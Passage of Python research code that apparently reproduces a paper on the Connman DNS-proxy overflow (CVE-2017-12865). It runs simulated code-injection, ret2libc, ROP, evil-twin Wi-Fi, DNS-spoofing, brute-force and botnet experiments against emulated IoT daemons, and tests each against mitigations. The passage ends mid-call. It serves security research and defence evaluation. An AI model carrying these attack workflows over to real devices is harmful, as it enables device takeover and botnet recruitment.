            daemon = ConnmanDaemon(arch=arch, version=version, profile=WX_ASLR)
            event = daemon.handle_upstream_reply(reply, expected_id=0xD05)
            survived = daemon.alive
            expected = (survived == should_survive) and (
                event.kind == (EventKind.DROPPED if should_survive else EventKind.CRASHED)
            )
            result.rows.append(
                (arch, version, event.describe()[:48], survived, _check(expected))
            )
    return result


# -- E2–E4: the six-attack matrix (§III-A/B/C) ------------------------------------


@register_experiment("E2", "code injection, no protections (§III-A)")
def e2_code_injection() -> ExperimentResult:
    """No protections: code injection spawns a root shell on both arches;
    the same payload faults under W^X."""
    result = ExperimentResult(
        "E2", "code injection, no protections (§III-A)",
        headers=("arch", "protections", "strategy", "outcome", "expected"),
    )
    for arch in ("x86", "arm"):
        outcome = run_scenario(AttackScenario(arch, "none", NONE))
        result.rows.append(
            (arch, "none", "code-injection", outcome.outcome, _check(outcome.succeeded))
        )
        # Negative control: same payload against a W^X victim -> W^X fault.
        scenario = AttackScenario(arch, "none", NONE)
        exploit = builder_for(arch, NONE).build(attacker_knowledge(scenario))
        victim = ConnmanDaemon(arch=arch, profile=WX)
        report = deliver(exploit, victim)
        blocked = report.event.kind == EventKind.CRASHED and report.event.signal == "SIGSEGV"
        result.rows.append(
            (arch, "W^X", "code-injection", report.event.describe()[:48], _check(blocked))
        )
    return result


@register_experiment("E3", "W^X bypass (§III-B)")
def e3_wx_bypass() -> ExperimentResult:
    """W^X enabled: ret2libc (x86) / gadget execlp (ARM) succeed; the ARM
    narrow gadget fails in parse_rr; both fail against ASLR."""
    result = ExperimentResult(
        "E3", "W^X bypass (§III-B)",
        headers=("arch", "variant", "outcome", "expected"),
    )
    for arch in ("x86", "arm"):
        outcome = run_scenario(AttackScenario(arch, "W^X", WX))
        result.rows.append((arch, "vs W^X victim", outcome.outcome, _check(outcome.succeeded)))

    # §III-B2's reported failure: narrow gadget leaves parse_rr slots garbage.
    scenario = AttackScenario("arm", "W^X", WX)
    short_exploit = ArmExeclpGadget(use_short_gadget=True).build(attacker_knowledge(scenario))
    victim = ConnmanDaemon(arch="arm", profile=WX)
    report = deliver(short_exploit, victim)
    blocked = report.event.kind == EventKind.CRASHED and report.event.signal == "SIGSEGV"
    result.rows.append(("arm", "short gadget (pop {r0, pc})",
                        report.event.describe()[:48], _check(blocked)))

    # Negative control: stale libc addresses vs an ASLR victim.
    for arch, builder in (("x86", X86Ret2Libc()), ("arm", ArmExeclpGadget())):
        blind = attacker_knowledge(AttackScenario(arch, "W^X+ASLR", WX_ASLR))
        exploit = builder.build(blind)
        victim = ConnmanDaemon(arch=arch, profile=WX_ASLR)
        report = deliver(exploit, victim)
        blocked = report.event.kind == EventKind.CRASHED
        result.rows.append((arch, "same technique vs ASLR victim",
                            report.event.describe()[:48], _check(blocked)))
    return result


@register_experiment("E4", "W^X + ASLR bypass via ROP (§III-C)")
def e4_aslr_bypass() -> ExperimentResult:
    """W^X + ASLR: the memcpy->.bss->execlp ROP chains succeed; the ARM
    full-string chain dies after three calls (the overwrite horizon)."""
    result = ExperimentResult(
        "E4", "W^X + ASLR bypass via ROP (§III-C)",
        headers=("arch", "variant", "outcome", "expected"),
    )
    for arch in ("x86", "arm"):
        outcome = run_scenario(AttackScenario(arch, "W^X+ASLR", WX_ASLR))
        result.rows.append((arch, "rop (paper chain)", outcome.outcome,
                            _check(outcome.succeeded)))

    # §III-C2: copying the full "/bin/sh" exceeds the three-call budget.
    blind = attacker_knowledge(AttackScenario("arm", "W^X+ASLR", WX_ASLR))
    greedy = ArmRopMemcpyExeclp(string=b"/bin/sh", enforce_horizon=False).build(blind)
    victim = ConnmanDaemon(arch="arm", profile=WX_ASLR)
    report = deliver(greedy, victim)
    blocked = report.event.kind == EventKind.CRASHED and report.event.signal == "SIGSEGV"
    result.rows.append(("arm", 'full "/bin/sh" chain (too long)',
                        report.event.describe()[:48], _check(blocked)))
    return result


# -- E5: Wi-Fi Pineapple man-in-the-middle (§III-D, Fig. 1) ---------------------------


@dataclass
class PineappleWorld:
    """The Fig. 1 setup: home LAN + legit AP + victim device + Pineapple."""

    radio: RadioEnvironment
    home_network: Network
    legit_dns: SimpleDnsServer
    pineapple: Optional[WifiPineapple] = None

    @classmethod
    def build(cls, ssid: str = "HomeWiFi") -> "PineappleWorld":
        home = Network("home-lan", subnet_prefix="192.168.1")
        gateway = Host("home-router")
        home.attach(gateway, ip="192.168.1.1")
        legit_dns = SimpleDnsServer(default_address="203.0.113.7")
        gateway.bind_udp(DNS_PORT, lambda payload, _dgram: legit_dns.handle_query(payload))
        dhcp = DhcpServer("192.168.1", router="192.168.1.1", dns_server="192.168.1.1")
        radio = RadioEnvironment()
        radio.add(AccessPoint(ssid=ssid, network=home, dhcp=dhcp, signal_dbm=-55))
        return cls(radio=radio, home_network=home, legit_dns=legit_dns)


@register_experiment("E5", "remote MITM via Wi-Fi Pineapple (§III-D)")
def e5_pineapple() -> ExperimentResult:
    """Remote exploitation through a rogue AP, exactly the §III-D protocol:
    x86 basic stack smash as feasibility, then all three ARM exploits."""
    result = ExperimentResult(
        "E5", "remote MITM via Wi-Fi Pineapple (§III-D)",
        headers=("device", "protections", "roamed", "dns via", "outcome", "expected"),
    )
    ssid = "HomeWiFi"

    runs: List[Tuple[str, IoTDevice, ProtectionProfile]] = [
        ("x86 media box", IoTDevice("media-box", UBUNTU_X86, known_ssids=[ssid],
                                    profile=NONE), NONE),
        ("rpi3 (none)", raspberry_pi_3b("rpi-none", known_ssids=[ssid], profile=NONE), NONE),
        ("rpi3 (W^X)", raspberry_pi_3b("rpi-wx", known_ssids=[ssid], profile=WX), WX),
        ("rpi3 (W^X+ASLR)", raspberry_pi_3b("rpi-full", known_ssids=[ssid],
                                            profile=WX_ASLR), WX_ASLR),
    ]
    for label, device, profile in runs:
        world = PineappleWorld.build(ssid)
        device.join_wifi(world.radio)
        baseline = device.lookup("connectivity-check.example")
        assert baseline is not None and baseline.kind == EventKind.RESPONDED

        arch = device.firmware.arch
        knowledge = attacker_knowledge(AttackScenario(arch, "bench", profile))
        exploit = builder_for(arch, profile).build(knowledge)
        pineapple = WifiPineapple(malicious_server_for(exploit))
        pineapple.impersonate(ssid, world.radio)
        world.pineapple = pineapple

        moved = device.join_wifi(world.radio)  # periodic rescan -> evil twin wins
        roamed = moved is not None and moved.ap in pineapple.broadcasts
        event = device.lookup("ota.vendor.example")
        got_root = event is not None and event.is_root_shell
        result.rows.append(
            (
                label,
                profile.label(),
                roamed,
                device.host.dns_server,
                event.describe()[:40] if event else "device offline",
                _check(roamed and got_root),
            )
        )
    return result


# -- E6: firmware survey (§III intro) ------------------------------------------------


@register_experiment("E6", "shipping firmware still carrying CVE-2017-12865 (§III)")
def e6_firmware_survey() -> ExperimentResult:
    """Which catalog images ship a vulnerable Connman (paper's survey)."""
    result = ExperimentResult(
        "E6", "shipping firmware still carrying CVE-2017-12865 (§III)",
        headers=("firmware", "connman", "vulnerable", "expected"),
        notes="Paper: Yocto builds 1.31, OpenELEC ships 1.34, Tizen vulnerable "
              "until 4.0; the fix shipped in 1.35 (Aug 2017).",
    )
    expectations = {
        "yocto-pyro": True,
        "openelec-8": True,
        "tizen-3": True,
        "tizen-4": False,
        "ubuntu-16.04-x86": True,
        "ubuntu-mate-16.04-rpi": True,
    }
    for image in FIRMWARE_CATALOG:
        findings = audit_firmware(image)
        vulnerable = bool(findings)
        result.rows.append(
            (
                image.name,
                str(image.connman_version),
                vulnerable,
                _check(vulnerable == expectations[image.name]),
            )
        )
    return result


# -- E7: suggested mitigations (§IV) -----------------------------------------------------


@register_experiment("E7", "suggested mitigations vs. the paper's attacks (§IV)")
def e7_mitigations() -> ExperimentResult:
    """Every §IV mitigation against the strongest applicable attack."""
    result = ExperimentResult(
        "E7", "suggested mitigations vs. the paper's attacks (§IV)",
        headers=("mitigation", "arch", "attack", "outcome", "expected"),
    )

    # Patching: the ROP chain (strongest attack) against 1.35.
    for arch in ("x86", "arm"):
        scenario = AttackScenario(arch, "W^X+ASLR", WX_ASLR)
        exploit = builder_for(arch, WX_ASLR).build(attacker_knowledge(scenario))
        victim = ConnmanDaemon(arch=arch, version="1.35", profile=WX_ASLR)
        report = deliver(exploit, victim)
        blocked = report.event.kind == EventKind.DROPPED and victim.alive
        result.rows.append(("patch to 1.35", arch, "rop", report.event.describe()[:44],
                            _check(blocked)))

    # Stack canary: catches the smash before the hijacked return.
    for arch in ("x86", "arm"):
        profile = ProtectionProfile(canary=True)
        scenario = AttackScenario(arch, "none", NONE)
        exploit = builder_for(arch, NONE).build(attacker_knowledge(scenario))
        victim = ConnmanDaemon(arch=arch, profile=profile)
        report = deliver(exploit, victim)
        blocked = report.event.signal == "SIGABRT"
        result.rows.append(("stack canary", arch, "code-injection",
                            report.event.describe()[:44], _check(blocked)))

    # CFI (shadow stack): stops the very first hijacked return of the ROP.
    for arch in ("x86", "arm"):
        profile = ProtectionProfile(wx=True, aslr=True, cfi=True)
        scenario = AttackScenario(arch, "W^X+ASLR", WX_ASLR)
        exploit = builder_for(arch, WX_ASLR).build(attacker_knowledge(scenario))
        victim = ConnmanDaemon(arch=arch, profile=profile)
        report = deliver(exploit, victim)
        blocked = report.event.signal == "SIGABRT" and "shadow stack" in report.event.detail
        result.rows.append(("CFI (shadow stack)", arch, "rop",
                            report.event.describe()[:44], _check(blocked)))

    # §VII lightweight return-address guard: the epilogue decrypts the
    # saved return address, so attacker-written plaintext lands at garbage.
    for arch in ("x86", "arm"):
        profile = ProtectionProfile(wx=True, aslr=True, ret_guard=True)
        scenario = AttackScenario(arch, "W^X+ASLR", WX_ASLR)
        exploit = builder_for(arch, WX_ASLR).build(attacker_knowledge(scenario))
        victim = ConnmanDaemon(arch=arch, profile=profile)
        report = deliver(exploit, victim)
        blocked = report.event.kind == EventKind.CRASHED and not report.got_root_shell
        result.rows.append(("ret-addr guard (§VII)", arch, "rop",
                            report.event.describe()[:44], _check(blocked)))

    # Compile-time diversity: one exploit vs a fleet of diversified builds.
    for arch in ("x86", "arm"):
        scenario = AttackScenario(arch, "W^X+ASLR", WX_ASLR)
        exploit = builder_for(arch, WX_ASLR).build(attacker_knowledge(scenario))
        shells = 0
        fleet = 8
        for seed in range(1, fleet + 1):
            victim = ConnmanDaemon(arch=arch, profile=WX_ASLR.with_(diversity_seed=seed))
            if deliver(exploit, victim).got_root_shell:
                shells += 1
        result.rows.append(
            ("software diversity", arch, "rop",
             f"{shells}/{fleet} diversified devices compromised", _check(shells == 0))
        )
    return result


def diversity_survival(arch: str = "x86", seeds: int = 8):
    """Gadget/PLT address survival across diversified builds (§IV analysis)."""
    from ..binfmt import build_connman

    reference = build_connman(arch)
    return [
        compare_builds(reference, build_connman(arch, seed=seed))
        for seed in range(1, seeds + 1)
    ]


# -- E8: adapting to other CVEs (§V) --------------------------------------------------------


@register_experiment("E8", "adapting the exploit to other CVEs (§V)")
def e8_adaptation(profiles: Optional[Sequence[Tuple[str, ProtectionProfile]]] = None
                  ) -> ExperimentResult:
    """Port the overflow to the other CVE-bearing services (§V)."""
    result = ExperimentResult(
        "E8", "adapting the exploit to other CVEs (§V)",
        headers=("service", "cve", "protocol", "effort", "protections", "outcome", "expected"),
    )
    if profiles is None:
        profiles = (("none", NONE), ("W^X", WX), ("W^X+ASLR", WX_ASLR))
    for spec in ALL_SPECS:
        for label, profile in profiles:
            service = AdaptedService(spec, profile=profile)
            builder = builder_for(spec.arch, profile)
            exploit = adapt_exploit(builder, service, aslr_blind=profile.aslr)
            report = deliver_to_service(exploit, service)
            result.rows.append(
                (
                    spec.name,
                    spec.cve_id,
                    spec.protocol,
                    spec.adaptation_effort,
                    label,
                    "root shell" if report.got_root_shell else report.event.describe()[:36],
                    _check(report.got_root_shell),
                )
            )
    return result


# -- E10: brute-forcing ASLR against a respawning daemon (§VI related work) -----


@register_experiment("E10", "brute-forcing ASLR (ret2libc, respawning daemon)",
                     grid={"max_attempts": (2048,)}, supports=("workers",))
def e10_bruteforce(max_attempts: int = 2048, *,
                   workers: Optional[int] = 1) -> ExperimentResult:
    """32-bit ASLR entropy is brute-forceable; §IV/§VII defenses are not."""
    from ..exploit import BruteForceTrial, run_bruteforce_trial
    from .parallel import run_tasks

    result = ExperimentResult(
        "E10", "brute-forcing ASLR (ret2libc, respawning daemon)",
        headers=("victim", "attempts", "outcome", "expected"),
        notes="32-bit mmap ASLR: ~8 bits of libc entropy -> expected ~256 tries.",
    )
    report, guarded_report = run_tasks(
        run_bruteforce_trial,
        [
            BruteForceTrial(victim_seed=99, attacker_seed=5,
                            max_attempts=max_attempts),
            BruteForceTrial(victim_seed=99, attacker_seed=5,
                            max_attempts=256, ret_guard=True),
        ],
        workers=workers,
    )
    plausible = report.succeeded and 16 <= report.attempts <= max_attempts
    result.rows.append(("W^X+ASLR", report.attempts, report.describe()[:52],
                        _check(plausible)))
    result.rows.append(("+ ret-addr guard", guarded_report.attempts,
                        guarded_report.describe()[:52],
                        _check(not guarded_report.succeeded)))
    return result


# -- E11: off-path spoofing / cache-poisoning delivery (§III-D remark) ------------


@register_experiment("E11", "off-path DNS spoofing delivery (no MITM)",
                     grid={"burst": (2048,), "max_queries": (512,)})
def e11_offpath(burst: int = 2048, max_queries: int = 512) -> ExperimentResult:
    """Exploitation without MITM: race the resolver with guessed ids."""
    from ..exploit import OffPathSpoofer

    result = ExperimentResult(
        "E11", "off-path DNS spoofing delivery (no MITM)",
        headers=("burst", "victim queries", "outcome", "expected"),
        notes="Each burst guesses `burst` of 65536 transaction ids; a chatty "
              "IoT device hands the attacker ~burst/65536 odds per lookup.",
    )
    knowledge = attacker_knowledge(AttackScenario("arm", "W^X+ASLR", WX_ASLR))
    exploit = builder_for("arm", WX_ASLR).build(knowledge)
    legit = SimpleDnsServer(default_address="1.1.1.1")
    victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(3))
    from ..exploit import OffPathSpoofer as _Spoofer

    spoofer = _Spoofer(exploit, burst=burst, rng=random.Random(11))
    report = spoofer.attack(victim, legit.handle_query, max_queries=max_queries)
    result.rows.append((burst, report.queries_observed, report.describe()[:52],
                        _check(report.succeeded)))

    # Tiny bursts: overwhelmingly the legitimate reply wins the race.
    small_victim = ConnmanDaemon(arch="arm", profile=WX_ASLR, rng=random.Random(4))
    small = _Spoofer(exploit, burst=4, rng=random.Random(12))
    small_report = small.attack(small_victim, legit.handle_query, max_queries=64)
    result.rows.append((4, small_report.queries_observed, small_report.describe()[:52],
                        _check(not small_report.succeeded)))
    return result


# -- E12: household fleet compromise (§I motivation) ------------------------------


@register_experiment("E12", "household fleet vs. one rogue AP (§I motivation)")
def e12_fleet() -> ExperimentResult:
    """One evil twin vs. the whole household.

    The attacker's Pineapple runs the full strategy ladder per victim
    (devices differ in architecture and protections); everything still
    shipping Connman <= 1.34 falls, the patched straggler survives.
    """
    from ..firmware.fleet import DEFAULT_HOUSEHOLD, FleetAttackOutcome, build_household
    from ..net import WifiPineapple

    result = ExperimentResult(
        "E12", "household fleet vs. one rogue AP (§I motivation)",
        headers=("device", "kind", "connman", "protections", "roamed", "outcome", "expected"),
    )
    ssid = "HomeWiFi"
    world = PineappleWorld.build(ssid)
    devices = build_household(ssid)
    for device in devices:
        device.join_wifi(world.radio)
        baseline = device.lookup("setup-check.example")
        assert baseline is not None and baseline.kind == EventKind.RESPONDED

    outcomes: List[FleetAttackOutcome] = []
    for member, device in zip(DEFAULT_HOUSEHOLD, devices):
        # Per-victim exploit: the ladder keyed on the (known) firmware kind.
        exploit = builder_for(device.firmware.arch, device.profile).build(
            attacker_knowledge(
                AttackScenario(device.firmware.arch, "fleet", device.profile,
                               version=str(device.firmware.connman_version))
            )
        )
        pineapple = WifiPineapple(malicious_server_for(exploit))
        rogue = pineapple.impersonate(ssid, world.radio)
        moved = device.join_wifi(world.radio)
        event = device.lookup(f"ota.{device.name}.example")
        pineapple.stop_broadcast(world.radio)
        outcomes.append(
            FleetAttackOutcome(
                device=device,
                kind=member.kind,
                roamed=moved is not None and moved.ap is rogue,
                compromised=event is not None and event.is_root_shell,
                detail=event.describe()[:32] if event else "offline",
            )
        )
    for outcome in outcomes:
        should_fall = outcome.device.firmware.ships_vulnerable_connman
        result.rows.append(
            outcome.row() + (_check(outcome.compromised == should_fall),)
        )
    vulnerable = sum(1 for o in outcomes if o.device.firmware.ships_vulnerable_connman)
    fallen = sum(1 for o in outcomes if o.compromised)
    result.notes = (f"{fallen}/{len(outcomes)} devices rooted "
                    f"({vulnerable} shipped vulnerable Connman).")
    return result


# -- E13: botnet recruitment via resolver poisoning (§III-D Mirai remark) ---------


@register_experiment("E13", "botnet via poisoned forwarder delegation (§III-D remark)")
def e13_botnet() -> ExperimentResult:
    """Fully off-path: poison the home forwarder's delegation, recruit the
    fleet through its own trusted resolver."""
    from ..dns import CachingForwarder
    from ..exploit.botnet import BotnetCampaign, universal_arm_payload, VENDOR_ZONE
    from ..firmware.fleet import build_household
    from ..net import AccessPoint, DhcpServer, Host, Network, RadioEnvironment

    result = ExperimentResult(
        "E13", "botnet via poisoned forwarder delegation (§III-D remark)",
        headers=("device", "firmware", "arch", "protections", "outcome", "recruited",
                 "expected"),
    )

    # The home LAN: the router runs the shared caching forwarder.
    ssid = "HomeWiFi"
    home = Network("home-lan", subnet_prefix="192.168.1")
    router = Host("home-router")
    home.attach(router, ip="192.168.1.1")
    legit = SimpleDnsServer(default_address="203.0.113.7")
    forwarder = CachingForwarder(default_upstream=legit.handle_query)
    router.bind_udp(DNS_PORT, lambda payload, _dgram: forwarder.handle_query(payload))
    dhcp = DhcpServer("192.168.1", router="192.168.1.1", dns_server="192.168.1.1")
    radio = RadioEnvironment()
    radio.add(AccessPoint(ssid=ssid, network=home, dhcp=dhcp, signal_dbm=-55))

    # An x86 device joins the ARM household to show the collateral DoS.
    devices = build_household(ssid)
    x86_box = IoTDevice("desktop-vm", UBUNTU_X86, known_ssids=[ssid], profile=WX_ASLR)
    devices.append(x86_box)
    for device in devices:
        device.join_wifi(radio)
        baseline = device.lookup("connectivity.example")
        assert baseline is not None and baseline.kind == EventKind.RESPONDED

    campaign = BotnetCampaign(
        forwarder, universal_arm_payload(), burst=2048, rng=random.Random(0xB07)
    )
    report = campaign.run(devices)
    assert report.poisoning.succeeded, report.poisoning.describe()

    for outcome, device in zip(report.outcomes, devices):
        if not device.firmware.ships_vulnerable_connman:
            expected = not outcome.recruited and "dropped" in outcome.outcome
        elif device.firmware.arch == "arm":
            expected = outcome.recruited
        else:  # vulnerable x86 fed the ARM payload: collateral crash.
            expected = not outcome.recruited and "crashed" in outcome.outcome
        result.rows.append(
            (outcome.device_name, outcome.firmware, outcome.arch,
             outcome.protections, outcome.outcome[:36], outcome.recruited,
             _check(expected))
        )
    result.notes = (
        f"{report.poisoning.describe()}; botnet size {report.c2.size} of "
        f"{len(devices)} devices (one payload, zero radio presence)."
    )
    return result


# -- E14: exploit reliability across randomization draws ---------------------------


@register_experiment("E14", "exploit reliability across fresh boots",
                     grid={"trials": (10,)},
                     supports=("workers", "checkpoint", "policy",
                               "sweep_observer"))
def e14_reliability(trials: int = 10, *,
                    workers: Optional[int] = 1,
                    checkpoint: Optional[str] = None, resume: bool = False,
                    policy=None, sweep_observer=None) -> ExperimentResult:
    """Success rates per technique over fresh boots (fresh ASLR draws).

    ``checkpoint``/``resume``/``policy`` flow into the study runner
    (journaled per STUDY_PLAN cell), so an interrupted E14 resumes to the
    same table; ``sweep_observer`` collects the harness-health counters
    the registry's SLO rules gate on.
    """
    from .reliability import run_reliability_study

    result = ExperimentResult(
        "E14", "exploit reliability across fresh boots",
        headers=("technique", "arch", "victim", "success", "expectation", "expected"),
        notes="'always' techniques use only non-randomized facts; 'lottery' "
              "is the 1-in-2^entropy residual that E10 brute-forces.",
    )
    for cell in run_reliability_study(trials=trials, workers=workers,
                                      policy=policy, checkpoint=checkpoint,
                                      resume=resume, observer=sweep_observer):
        result.rows.append(cell.row() + (_check(cell.matches_expectation),))
    return result


# -- E15: brute-force cost vs. ASLR entropy (figure series) -------------------------


@register_experiment("E15", "brute-force attempts vs. ASLR entropy (figure series)",
                     grid={"runs_per_point": (5,)},
                     supports=("workers", "checkpoint", "policy",
                               "sweep_observer"))
def e15_entropy_sweep(runs_per_point: int = 5, *,
                      workers: Optional[int] = 1,
                      checkpoint: Optional[str] = None, resume: bool = False,
                      policy=None, sweep_observer=None) -> ExperimentResult:
    """Median brute-force attempts scale linearly with randomization span.

    ``checkpoint``/``resume``/``policy`` reach the underlying entropy
    sweep (journaled per brute-force trial): ``repro run E15 --checkpoint
    ... --resume`` re-executes only the trials a killed run is missing.
    """
    from .sweeps import sweep_bruteforce_entropy

    result = ExperimentResult(
        "E15", "brute-force attempts vs. ASLR entropy (figure series)",
        headers=("entropy (pages)", "median attempts", "range", "expected"),
        notes="Linear scaling: with ~2^8 pages the attack is minutes of DNS "
              "traffic; IoT-class 32-bit targets cannot widen the span enough.",
    )
    points = sweep_bruteforce_entropy(runs_per_point=runs_per_point,
                                      workers=workers, policy=policy,
                                      checkpoint=checkpoint, resume=resume,
                                      observer=sweep_observer)
    for point in points:
        result.rows.append(point.row() + (_check(point.plausible),))
    medians = [point.median_attempts for point in points]
    scaling_holds = medians[-1] > medians[0] * 4
    result.rows.append(
        ("(scaling)", f"{medians[0]:.0f} -> {medians[-1]:.0f}", "64x span",
         _check(scaling_holds))
    )
    return result


# -- E16: chaos sweep — resilience & attack success under injected faults ---------


@register_experiment("E16", "chaos sweep: availability and attack success under faults",
                     grid={"queries_per_rate": (24,), "attack_budget": (32,)},
                     supports=("workers", "checkpoint", "policy",
                               "sweep_observer"))
def e16_chaos(rates: Sequence[float] = (0.0, 0.2, 0.5),
              queries_per_rate: int = 24, attack_budget: int = 32, *,
              workers: Optional[int] = 1, checkpoint: Optional[str] = None,
              resume: bool = False, policy=None,
              sweep_observer=None) -> ExperimentResult:
    """Fault-rate sweep plus the supervised-vs-unsupervised brute force.

    ``checkpoint``/``resume``/``policy``/``sweep_observer`` flow straight
    into :func:`~repro.core.chaos.run_chaos_sweep`: an E16 run killed
    mid-sweep resumes from its journal with a byte-identical table.
    """
    from ..connman import DaemonSupervisor
    from ..exploit import AslrBruteForcer
    from ..obs import Collector
    from .chaos import run_chaos_sweep

    result = ExperimentResult(
        "E16", "chaos sweep: availability and attack success under faults",
        headers=("fault rate", "answered", "stale", "failed", "restarts",
                 "availability", "attack", "expected"),
        notes="Faulty upstreams degrade to stale answers; the supervisor's "
              "start-limit turns the attacker's crash-restart oracle off.",
    )
    collector = Collector()
    report = run_chaos_sweep(rates, queries_per_rate=queries_per_rate,
                             attack_budget=attack_budget, observer=collector,
                             workers=workers, checkpoint=checkpoint,
                             resume=resume, policy=policy,
                             sweep_observer=sweep_observer)
    result.metrics = collector.metrics.to_dict()
    for cell in report.cells:
        if cell.fault_rate == 0.0:
            expected = cell.failed == 0 and cell.stale == 0
        else:
            expected = cell.answered < cell.queries and (cell.stale + cell.failed) > 0
        result.rows.append(cell.row() + (_check(expected),))

    # The supervision headline: same victim seed, same guess stream, with
    # and without init's restart budget.
    narrowed = WX_ASLR.with_(aslr_entropy_pages=64)
    free_victim = ConnmanDaemon(arch="x86", profile=narrowed, rng=random.Random(424))
    free = AslrBruteForcer(free_victim, max_attempts=192,
                           rng=random.Random(17)).run()
    capped_victim = ConnmanDaemon(arch="x86", profile=narrowed, rng=random.Random(424))
    supervisor = DaemonSupervisor(capped_victim, start_limit_burst=8)
    capped = AslrBruteForcer(capped_victim, max_attempts=192,
                             rng=random.Random(17), supervisor=supervisor).run()
    result.rows.append(
        ("(bruteforce, bare init)", f"{free.attempts} tries", "-", "-",
         free_victim.boots - 1, "-",
         "root shell" if free.succeeded else "no shell",
         _check(free.succeeded)))
    result.rows.append(
        ("(bruteforce, supervised)", f"{capped.attempts} tries", "-", "-",
         supervisor.restart_count, f"{supervisor.availability():.3f}",
         capped.describe()[:28],
         _check(capped.halted_by_supervisor and not capped.succeeded
                and capped.attempts < free.attempts)))
    return result


def run_all() -> List[ExperimentResult]:
    """Every experiment, in DESIGN.md order — resolved from the registry.

    This used to be a second hand-written call list that had to be kept
    in sync with the CLI's dispatch table; now both walk the registry.
    """
    from .registry import all_experiments, run_experiment

    return [run_experiment(spec).result for spec in all_experiments()]
