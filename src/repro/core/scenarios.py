"""The paper's attack scenarios as runnable objects.

One :class:`AttackScenario` = one cell of the §III experiment matrix
(architecture x protection level).  Running it performs the full loop:
boot the victim, recon on an attacker bench copy, build the strategy the
ladder prescribes, deliver over DNS, observe the outcome.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..connman import ConnmanDaemon, DaemonEvent, EventKind
from ..defenses import NONE, PAPER_LEVELS, ProtectionProfile
from ..dns import Message, build_raw_response, make_query
from ..exploit import (
    DEFAULT_LURE,
    Debugger,
    Exploit,
    ExploitError,
    TargetKnowledge,
    builder_for,
    deliver,
    malicious_server_for,
)
from ..net import DNS_PORT, Host, Network
from ..obs import Collector


@dataclass(frozen=True)
class AttackScenario:
    arch: str
    level_label: str
    profile: ProtectionProfile
    version: str = "1.34"

    @property
    def key(self) -> str:
        return f"{self.arch}/{self.level_label}"


#: The six §III-A/B/C cells, in paper order.
PAPER_MATRIX: Tuple[AttackScenario, ...] = tuple(
    AttackScenario(arch=arch, level_label=label, profile=profile)
    for arch in ("x86", "arm")
    for label, profile in PAPER_LEVELS
)


@dataclass
class ScenarioResult:
    scenario: AttackScenario
    exploit: Optional[Exploit]
    event: Optional[DaemonEvent]
    error: str = ""

    @property
    def succeeded(self) -> bool:
        return (
            self.event is not None
            and self.event.kind == EventKind.COMPROMISED
            and self.event.is_root_shell
        )

    @property
    def outcome(self) -> str:
        if self.error:
            return f"not built: {self.error}"
        assert self.event is not None
        return "root shell" if self.succeeded else self.event.describe()

    def row(self) -> Tuple[str, str, str, str]:
        strategy = self.exploit.strategy if self.exploit else "-"
        return (self.scenario.arch, self.scenario.level_label, strategy, self.outcome)


def attacker_knowledge(scenario: AttackScenario,
                       rng: Optional[random.Random] = None) -> TargetKnowledge:
    """Recon on the attacker's bench copy of the same firmware (ASLR off on
    the bench; blindness matches the victim's ASLR setting)."""
    bench = ConnmanDaemon(
        arch=scenario.arch,
        version=scenario.version,
        profile=scenario.profile.with_(aslr=False),
        rng=rng,
    )
    return Debugger(bench).knowledge(aslr_blind=scenario.profile.aslr)


def run_scenario(scenario: AttackScenario,
                 rng: Optional[random.Random] = None) -> ScenarioResult:
    """One full attack: boot victim, recon, build, deliver, observe."""
    rng = rng or random.Random(0x5EED)
    victim = ConnmanDaemon(
        arch=scenario.arch, version=scenario.version, profile=scenario.profile,
        rng=rng,
    )
    knowledge = attacker_knowledge(scenario)
    builder = builder_for(scenario.arch, scenario.profile)
    try:
        exploit = builder.build(knowledge)
    except ExploitError as why:
        return ScenarioResult(scenario=scenario, exploit=None, event=None, error=str(why))
    report = deliver(exploit, victim, rng=rng)
    return ScenarioResult(scenario=scenario, exploit=exploit, event=report.event)


def run_paper_matrix(version: str = "1.34") -> List[ScenarioResult]:
    """All six cells of the §III matrix."""
    return [
        run_scenario(AttackScenario(s.arch, s.level_label, s.profile, version))
        for s in PAPER_MATRIX
    ]


# -- canonical observed scenarios (span tracing / postmortem drivers) ----------


@dataclass
class ObservedAttack:
    """One wire-to-verdict attack run plus the collector that watched it."""

    collector: Collector
    network: Network
    daemon: ConnmanDaemon
    exploit: Optional[Exploit]
    event: Optional[DaemonEvent]
    error: str = ""

    @property
    def succeeded(self) -> bool:
        return (
            self.event is not None
            and self.event.kind == EventKind.COMPROMISED
            and self.event.is_root_shell
        )


#: CLI spellings of the paper's protection labels (``repro ... --level``).
_LEVEL_ALIASES = {"wx": "W^X", "wx+aslr": "W^X+ASLR"}


def _profile_for(level_label: str) -> ProtectionProfile:
    level_label = _LEVEL_ALIASES.get(level_label.lower(), level_label)
    for label, profile in PAPER_LEVELS:
        if label == level_label:
            return profile
    known = ", ".join(label for label, _ in PAPER_LEVELS)
    raise ValueError(f"unknown protection level {level_label!r} (known: {known})")


def _attack_lan(observer: Collector) -> Tuple[Network, Host, Host, Host]:
    network = Network("attack-lan", subnet_prefix="10.66.0", observer=observer)
    client = Host("iot-client")
    victim_host = Host("victim-device")
    attacker_host = Host("attacker-server")
    for host in (client, victim_host, attacker_host):
        network.attach(host)
    return network, client, victim_host, attacker_host


def run_observed_attack(
    *,
    arch: str = "x86",
    level_label: str = "none",
    version: str = "1.34",
    seed: int = 0x0B5E,
    observer: Optional[Collector] = None,
    taint: bool = False,
) -> ObservedAttack:
    """One attack over a real simulated LAN, fully span-traced.

    Client, victim, and attacker are hosts on one :class:`Network`, so a
    single attempt is one connected span tree from wire to verdict::

        exploit.attempt
        └─ net.deliver                    (client query -> victim device)
           └─ daemon.handle_query
              ├─ net.deliver              (victim -> attacker's upstream)
              └─ daemon.parse             (the malicious reply)
                 └─ cpu.run               (emulated dnsproxy parser)

    This is the CLI's canonical observed scenario (``repro spans`` /
    ``repro trace-export``).
    """
    collector = observer if observer is not None else Collector()
    if taint and collector.taint is None:
        from ..obs.taint import TaintEngine

        collector.attach_taint(TaintEngine())
    profile = _profile_for(level_label)
    rng = random.Random(seed)
    scenario = AttackScenario(arch=arch, level_label=level_label,
                              profile=profile, version=version)
    network, client, victim_host, attacker_host = _attack_lan(collector)
    daemon = ConnmanDaemon(arch=arch, version=version, profile=profile,
                           rng=rng, observer=collector)
    knowledge = attacker_knowledge(scenario)
    builder = builder_for(arch, profile)
    try:
        exploit = builder.build(knowledge)
    except ExploitError as why:
        return ObservedAttack(collector, network, daemon, None, None,
                              error=str(why))
    server = malicious_server_for(exploit)
    attacker_host.bind_udp(
